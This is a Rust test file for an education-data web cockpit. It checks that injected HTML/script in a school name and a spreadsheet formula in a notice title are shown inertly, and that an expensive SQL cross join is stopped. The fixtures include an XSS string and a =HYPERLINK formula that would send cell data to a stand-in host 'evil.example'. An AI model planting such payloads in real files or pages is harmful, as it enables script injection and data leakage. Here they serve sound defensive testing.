//! What a hostile value or query does to the cockpit: a script in a name and a formula in a
//! title come out inert; a runaway query is stopped.

use axum::body::Body;
use axum::http::{Request, StatusCode};
use tower::ServiceExt;

use edulake_ingest::Upload;
use edulake_serve::web::app;
use edulake_transform::access::Role;
use edulake_transform::reads::Scope;

use crate::common::*;
use crate::web_client::*;

/// A school named `<script>…` and a notice titled `=HYPERLINK(…)`: pages show them as text,
/// downloads keep the title from being a formula in a spreadsheet.
#[tokio::test]
async fn a_script_in_a_name_and_a_formula_in_a_title_come_out_inert() {
    let f = Fixture::new();
    let name = "<script>alert(1)</script>一中";
    let title = "=HYPERLINK(\"http://evil.example/?\"&A1,\"点击\")";
    for (dataset, text) in [
        (
            "schools",
            format!("school_code,school_name,district,school_type\nS1,\"{name}\",<b>D1</b>,初中\n"),
        ),
        (
            "attendance",
            "date,school_code,class_code,student_id,status\n2026-09-01,S1,7-1,G1,present\n"
                .to_string(),
        ),
        (
            "notices",
            format!(
                "notice_id,issuer,title,published_at\nN1,bureau,\"{}\",2026-09-01 08:30\n",
                title.replace('"', "\"\"")
            ),
        ),
        (
            "notice_reads",
            "notice_id,school_code,recipient_id,delivered_at,read_at\nN1,S1,r1,2026-09-01 08:31,2026-09-01 09:31\n"
                .to_string(),
        ),
    ] {
        let p = f.write(&format!("{dataset}.csv"), text);
        let out = f.ingest(dataset, Upload::default(), &[p]).await;
        assert_eq!(stored(&out[0]).rows_rejected, 0, "{dataset}");
    }
    assert!(f.cli(&["--quiet", "build"]).status.success());
    let state = cockpit(&f).await;
    let owner = Browser::anonymous();
    let range = "from=2026-09-01&to=2026-09-01";
    for uri in [
        format!("/?{range}"),
        format!("/district/%3Cb%3ED1%3C%2Fb%3E?{range}"),
        format!("/school/S1?{range}"),
        format!("/notices?{range}"),
        format!("/notices?notice=N1&{range}"),
        format!("/data?{range}"),
    ] {
        let a = get(&state, &owner, &uri).await;
        assert_eq!(a.status, StatusCode::OK, "{uri}: {}", a.body);
        assert!(
            !a.body.contains("<script") && !a.body.contains("<b>D1"),
            "{uri}: markup from the data"
        );
        assert!(
            ["&lt;script&gt;", "&lt;b&gt;", "=HYPERLINK(&quot;http"]
                .iter()
                .any(|w| a.body.contains(w)),
            "{uri}: the name or title is not shown as text"
        );
        assert_eq!(
            a.headers["content-security-policy"],
            edulake_serve::web::guard::CSP
        );
    }
    // The CSV: the title a text, not a formula.
    let csv = get(
        &state,
        &owner,
        &format!("/download?indicator=notice_read_rate&by=notice&format=csv&{range}"),
    )
    .await
    .body;
    assert!(csv.contains("'=HYPERLINK"), "{csv}");
    assert!(
        !csv.contains(",=HYPERLINK") && !csv.contains(",\"=HYPERLINK"),
        "{csv}"
    );
    // The workbook: a text cell, no formula anywhere.
    let xlsx = {
        let response = app(state.clone())
            .oneshot(
                Request::builder()
                    .uri(format!(
                        "/download?indicator=notice_read_rate&by=notice&format=xlsx&{range}"
                    ))
                    .header("host", "127.0.0.1:8080")
                    .body(Body::empty())
                    .unwrap(),
            )
            .await
            .unwrap();
        axum::body::to_bytes(response.into_body(), 1 << 24)
            .await
            .unwrap()
            .to_vec()
    };
    use calamine::Reader;
    let mut book = calamine::Xlsx::new(std::io::Cursor::new(xlsx)).unwrap();
    let sheet = book.sheet_names()[0].clone();
    let formulas = book.worksheet_formula(&sheet).unwrap();
    assert!(
        formulas.used_cells().all(|(_, _, f)| f.is_empty()),
        "a formula in the workbook"
    );
    let cells = book.worksheet_range(&sheet).unwrap();
    assert!(
        cells
            .used_cells()
            .any(|(_, _, c)| c.to_string().contains("HYPERLINK")),
        "the title is in the workbook"
    );
}

/// A runaway query a clerk types is stopped within the time limit, and the cockpit answers.
#[tokio::test]
async fn a_clerks_runaway_query_is_stopped_within_the_limit() {
    // Each test runs in a process of its own (nextest): the limit is this test's alone.
    std::env::set_var("EDULAKE_QUERY_SECONDS", "2");
    let f = crate::access::three_schools().await;
    let state = cockpit(&f).await;
    let clerk = signed_in(
        &state,
        "clerk",
        Role::SchoolClerk,
        Scope::School("S1".into()),
    );
    let started = std::time::Instant::now();
    let sql = "SELECT count(*) FROM generate_series(1, 1000000) a, generate_series(1, 1000000) b";
    let a = get(&state, &clerk, &format!("/sql?format=csv&q={}", pct(sql))).await;
    assert_eq!(a.status, StatusCode::BAD_REQUEST, "{}", a.body);
    assert!(a.body.contains("stopped"), "{}", a.body);
    assert!(
        started.elapsed() < std::time::Duration::from_secs(15),
        "{:?}",
        started.elapsed()
    );
    let ok = get(
        &state,
        &clerk,
        &format!(
            "/sql?format=csv&q={}",
            pct("SELECT count(*) AS n FROM attendance_rate_school")
        ),
    )
    .await;
    assert_eq!(ok.status, StatusCode::OK, "{}", ok.body);
}
